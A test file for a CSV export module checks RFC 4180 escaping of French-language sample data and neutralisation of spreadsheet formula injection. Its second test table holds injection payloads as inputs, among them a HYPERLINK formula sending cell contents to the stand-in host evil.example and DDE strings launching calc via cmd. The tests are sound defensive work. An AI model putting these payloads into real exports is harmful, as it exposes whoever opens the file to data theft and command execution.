import { describe, expect, it } from 'vitest';
import { escapeCsvField, toCsv } from './csv.js';

describe('CSV escaping (RFC 4180)', () => {
  it.each([
    ['simple', 'simple'],
    ['Entretien, tonte', '"Entretien, tonte"'],
    ['Le "Clos" fleuri', '"Le ""Clos"" fleuri"'],
    ['ligne 1\nligne 2', '"ligne 1\nligne 2"'],
    ['retour\r', '"retour\r"'],
    [' espace devant', '" espace devant"'],
    ['accents é à ç', 'accents é à ç'],
    [1250000.5, '1250000.5'], // a dot, not the French comma, so every reader parses it
    [0, '0'],
    [true, 'oui'],
    [false, 'non'],
    [null, ''],
    [undefined, ''],
    [-12.5, '-12.5'], // a number, not text a spreadsheet could take for a formula
  ])('writes %j as %j', (value, expected) => {
    expect(escapeCsvField(value)).toBe(expected);
  });

  // OWASP "CSV Injection": text that a spreadsheet would evaluate is written with a leading apostrophe.
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")"`],
    ['+33 4 94 00 00 00', "'+33 4 94 00 00 00"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['Voirie = réseaux', 'Voirie = réseaux'],
  ])('neutralises the text %j that a spreadsheet would read as a formula', (value, expected) => {
    expect(escapeCsvField(value)).toBe(expected);
  });

  it('writes a BOM, a header and CRLF-terminated rows', () => {
    expect(toCsv(['a', 'b'], [[1, 'x,y'], [null, 'z']])).toBe('\uFEFFa,b\r\n1,"x,y"\r\n,z\r\n');
  });
});
